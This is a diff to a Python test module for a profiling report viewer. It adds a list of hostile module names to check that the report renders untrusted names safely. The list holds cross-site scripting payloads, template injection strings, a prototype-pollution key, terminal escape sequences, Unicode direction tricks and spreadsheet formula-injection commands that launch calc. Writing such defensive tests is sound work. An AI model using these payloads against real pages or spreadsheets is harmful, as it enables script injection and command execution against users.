@@ -28,14 +28,35 @@ import hloipu
 from hloipu.report.page import report_page
 from hloipu.report.record import report_record
 from hloipu_runtime.report.profile import Profile
-from tools.hostile_names import HOSTILE_NAMES
+
+_SCRIPTS = (
+    "alert(1)", "window.ran=1", "fetch('http://x.invalid')", "document.title='ran'",
+    "import('http://x.invalid/a.js')",
+)  # fmt: skip
+_WRAPPED = (
+    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>",
+    "<svg onload={}>", "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'>",
+    "<a href=javascript:{}>x</a>", "\"><body onload={}>",
+)  # fmt: skip
+_OTHERS = (
+    "<!--", "-->", "]]>", "<![CDATA[<script>window.ran=1</script>]]>",
+    "</title><script>window.ran=1</script>",
+    "<base href='http://x.invalid/'>", "<meta http-equiv=refresh content='0;url=http://x.invalid'>",
+    "<link rel=stylesheet href='http://x.invalid/a.css'>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${window.ran=1}", "`${window.ran=1}`", "\u2028window.ran=1//", "\u2029window.ran=1//",
+    "\u202egnp.exe", "\x1b[2J\x1b]0;title\x07", "\x00", "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "__proto__",
+)  # fmt: skip
+HOSTILE_NAMES = tuple(text.format(script) for text in _WRAPPED for script in _SCRIPTS) + _OTHERS
+"""Names that a stranger's module may have, meant to run in a page, a terminal or a table: what they
+would run sets `window.ran`, opens a dialog, or asks for a page."""
 
 SCREENS = ("overview", "flame", "roofline", "memory", "liveness", "program", "ops", "trace",
            "pipeline", "graph", "links", "queues", "passes")  # fmt: skip
 SAMPLES = Path("hlo_samples")
 FEED = {"data": [4, 5]}
-SMALL_TILES = {"memory.bytes_per_tile": 9_216, "memory.executable_bytes": 9_216,
-               "memory.element_bytes": 1024}  # fmt: skip
 MOST_BYTES, MOST_PAINT_SECONDS, MOST_ANSWER_SECONDS = 8_000_000, 1.0, 0.1
 """Of the page of 1,472 tiles, 100,000 steps and 20,000 ops; an answer is to a key or a click."""
 
